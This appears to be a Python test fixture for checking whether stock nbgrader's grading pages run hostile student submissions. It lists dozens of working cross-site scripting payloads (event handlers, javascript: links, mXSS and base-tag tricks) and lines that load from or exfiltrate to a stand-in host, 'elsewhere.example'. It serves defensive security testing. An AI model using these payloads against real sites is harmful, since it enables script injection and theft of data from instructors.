"""What a hostile student shows: each runs, or loads from elsewhere, in stock nbgrader's pages.

A payload that runs calls ``fired`` with its name; one that leaves the page asks `ELSEWHERE` for it.
"""

ELSEWHERE = "https://elsewhere.example"

MARKDOWN = {
    "handler": "<img src=x onerror=\"fired('handler')\">",
    "script": "<script>fired('script')</script>",
    "svg-onload": "<svg onload=\"fired('svg-onload')\"></svg>",
    "svg-animate": "<svg><rect><animate onbegin=\"fired('svg-animate')\" attributeName=x dur=1s />"
    "</rect></svg>",
    "foreign-object": "<svg><foreignObject><img src=x onerror=\"fired('foreign-object')\" />"
    "</foreignObject></svg>",
    "svg-image": f'<svg><image href="{ELSEWHERE}/svg-image" /></svg>',
    "details": "<details open ontoggle=\"fired('details')\"><summary>x</summary></details>",
    "autofocus": "<input autofocus onfocus=\"fired('autofocus')\">",
    "srcdoc": "<iframe srcdoc=\"<script>parent.fired('srcdoc')</script>\"></iframe>",
    "frame": f'<iframe src="{ELSEWHERE}/frame"></iframe>',
    "object": f'<object data="{ELSEWHERE}/object"></object>',
    "embed": f'<embed src="{ELSEWHERE}/embed">',
    "link": "[click](javascript:fired('link'\\))",
    "reference": "[click][there]\n\n[there]: javascript:fired('reference')",
    "autolink": "<javascript:fired('autolink')>",
    "html-link": "<a href=\"java&#115;cript:fired('html-link')\">click</a>",
    "math-link": "<math><a xlink:href=\"javascript:fired('math-link')\">click</a></math>",
    "files-link": "<a href=\"files/javascript:fired('files-link')\">click</a>",
    "form": f'<form action="{ELSEWHERE}/form"><button>send</button></form>',
    "form-action": "<form><button formaction=\"javascript:fired('form-action')\">x</button></form>",
    "image": f"![phones home]({ELSEWHERE}/image)",
    "srcset": f'<img srcset="{ELSEWHERE}/srcset 1x">',
    "image-button": f'<input type="image" src="{ELSEWHERE}/image-button">',
    "poster": f'<video poster="{ELSEWHERE}/poster"></video>',
    "style-sheet": f'<link rel="stylesheet" href="{ELSEWHERE}/style-sheet">',
    "import": f'<style>@import "{ELSEWHERE}/import";</style>',
    "exfiltration": "<style>input[id^=essay] { background: "
    f"url({ELSEWHERE}/exfiltration) }}</style>",
    "style": f'<div style="background: url({ELSEWHERE}/style)">x</div>',
    "alternative-text": "![a](x.png) <img alt='`' src=x onerror=\"fired('alternative-text')\"> `",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=fired('noscript')>\"></p>",
    "mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--></style><img src=x onerror=fired('mglyph')>\"></table></mtext></math>",
    "comment": "<!--><img src=x onerror=\"fired('comment')\"> -->",
    "marquee": "<marquee onstart=\"fired('marquee')\">x</marquee>",
    "video-error": "<video><source onerror=\"fired('video-error')\"></video>",
    "gadget": '<a data-toggle="collapse" href="#" '
    "data-target=\"<img src=x onerror=fired('gadget')>\">click</a>",
    "refresh": f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/refresh">',
    # last, for it changes where all others are looked for
    "base": f'<base href="{ELSEWHERE}/"><img src="base">',
}

KINDS = {
    "html": ("text/html", "<img src=x onerror=\"fired('html')\">", {}),
    "javascript": ("application/javascript", "fired('javascript')", {}),
    "markdown": ("text/markdown", "<img src=x onerror=\"fired('markdown')\">", {}),
    "plotly": ("text/html", "<div id=p></div><script>fired('plotly')</script>", {}),
    "module": ("text/html", "<script type=module>fired('module')</script>", {}),
    "isolated": (
        "text/html",
        "<script>fired('isolated')</script>",
        {"text/html": {"isolated": True}},
    ),
    "size": ("image/png", "AAAA", {"image/png": {"width": "1 onerror=fired('size')"}}),
}
"""Of outputs: what is displayed, and its metadata."""

QUIET = {
    "svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fired('svg')\"/>",
        {},
    ),
    "latex": ("text/latex", "$\\href{javascript:fired('latex')}{x}$ <img src=x onerror=y>", {}),
    "widget": ("application/vnd.jupyter.widget-view+json", {"model_id": "</script>"}, {}),
    "vega": ("application/vnd.vega.v5+json", {"data": {"url": f"{ELSEWHERE}/vega"}}, {}),
    "geojson": ("application/geo+json", {"type": "<img src=x onerror=fired('geojson')>"}, {}),
}
"""Outputs that stock pages show without running them, or not at all."""

PRINTED = """print("<img src=x onerror=fired('stream')> \\x1b[31m<b onclick=y>\\x1b[0m")
raise ValueError("<img src=x onerror=fired('traceback')> \\x1b[1;31m<script>fired()</script>")"""

COUNT = """from IPython import get_ipython
kernel = get_ipython().kernel
count = "<img src=x onerror=fired('count')>"
kernel.session.send(kernel.iopub_socket, "execute_input", {"code": "", "execution_count": count},
                    parent=kernel.get_parent())"""

NAMES = {
    "last_name": "<img src=x onerror=\"fired('last-name')\">",
    "first_name": f'<img src="{ELSEWHERE}/first-name">',
}
"""Of a student, as a learning platform may hand them over."""

FOLDER = "<img src=x onerror=fired('folder')>"
"""A student's id."""

NOT_SEEN = {"form", "link", "marquee", "math-link", "mglyph", "noscript"}
"""What this Chromium, or the parser that nbconvert sends a page through, does not let run."""

FIRES = {*MARKDOWN, *KINDS, "last-name", "first-name"} - NOT_SEEN
"""What is seen to run, or to leave, in stock formgrader."""


def cells() -> list[dict]:
    """Return cells that show all of it, as a student hands them in."""
    made = [
        {"cell_type": "markdown", "id": f"m-{name}", "metadata": {}, "source": source}
        for name, source in MARKDOWN.items()
        if name != "base"
    ]
    for name, (mime, value, metadata) in {**KINDS, **QUIET}.items():
        code = (
            "from IPython.display import display\n"
            f"display({{{mime!r}: {value!r}, 'text/plain': 'x'}}, raw=True, metadata={metadata!r})"
        )
        made.append(_code(name, code))
    made += [_code("printed", PRINTED), _code("count", COUNT)]
    raw = {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}}
    made.append({**raw, "source": "<img src=x onerror=\"fired('raw')\">"})
    attached = {'x.svg"><img src=x onerror=fired()>': {"image/svg+xml": "PHN2Zy8+"}}
    picture = {"cell_type": "markdown", "id": "attached", "attachments": attached}
    tagged = {"tags": ["\"><img src=x onerror=fired('tag')>"], "title": "<script>"}
    made.append({**picture, "metadata": tagged, "source": "an attachment"})
    last = {"cell_type": "markdown", "id": "m-base", "metadata": {}, "source": MARKDOWN["base"]}
    return [*made, last]


def _code(name: str, code: str) -> dict:
    cell = {"cell_type": "code", "id": f"o-{name}", "metadata": {}, "source": code}
    return {**cell, "outputs": [], "execution_count": None}
